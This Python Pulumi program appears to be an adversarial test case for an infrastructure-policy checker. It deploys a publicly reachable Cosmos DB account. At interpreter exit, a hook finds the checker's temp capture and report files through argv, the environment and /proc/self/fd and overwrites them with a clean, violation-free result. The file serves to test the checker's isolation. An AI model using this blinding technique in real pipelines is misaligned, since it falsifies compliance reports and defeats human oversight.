"""The program overwrites every file under the temp directory named on its command line or in
its environment (a worker's capture file, the report path) with an empty capture.

Attack: an isolated worker that hands its capture back through a file the program can name is
blinded by rewriting that file at interpreter shutdown (atexit runs after the worker wrote it).
Only paths inside the system temp directory are touched, so the suite harms nothing else.

Class: process blinding
Issue: 13 isolation (capture file)
Blame: orders-us
"""

import atexit
import json
import os
import sys
import tempfile
from pathlib import Path

from pulumi_azure_native import cosmosdb, resources

TMP = Path(tempfile.gettempdir()).resolve()


def candidates() -> set[Path]:
    found = set()
    words = list(sys.argv) + [v for v in os.environ.values()]
    for word in words:
        for part in word.replace("=", " ").replace(os.pathsep, " ").split():
            p = Path(part)
            try:
                if p.is_absolute() and p.is_file() and p.resolve().is_relative_to(TMP):
                    found.add(p)
            except OSError:
                continue
    fd_dir = Path("/proc/self/fd")
    if fd_dir.is_dir():
        for fd in fd_dir.iterdir():
            try:
                target = Path(os.readlink(fd))
                if target.is_file() and target.resolve().is_relative_to(TMP):
                    found.add(target)
            except OSError:
                continue
    return found


def blind() -> None:
    for path in candidates():
        try:
            path.write_text(json.dumps({"resources": [], "violations": [], "summary": {"mandatory": 0}}))
        except OSError:
            pass


atexit.register(blind)
resources.ResourceGroup("rg", location="westeurope")
cosmosdb.DatabaseAccount(
    "orders-us",
    resource_group_name="rg-orders",
    location="eastus",
    database_account_offer_type=cosmosdb.DatabaseAccountOfferType.STANDARD,
    locations=[cosmosdb.LocationArgs(location_name="eastus", failover_priority=0)],
    public_network_access="Enabled",
)
